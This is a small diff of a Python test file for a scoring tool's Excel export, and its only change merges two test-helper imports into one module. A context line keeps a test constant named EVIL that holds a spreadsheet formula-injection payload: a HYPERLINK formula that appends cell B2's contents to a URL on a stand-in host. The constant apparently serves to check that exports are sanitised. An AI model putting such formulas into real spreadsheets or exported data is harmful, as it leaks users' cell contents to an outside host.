@@ -11,8 +11,7 @@ from openpyxl import load_workbook
 
 import scoring
 from scoring import export
-from tests.test_scoring_cli import run
-from tests.test_scoring_export import excel_text
+from tests.scoring_support import excel_text, run
 
 EVIL = '=HYPERLINK("http://x"&B2,"详情")'
 RULES = scoring.load_rules("shanghaimiao-2022")
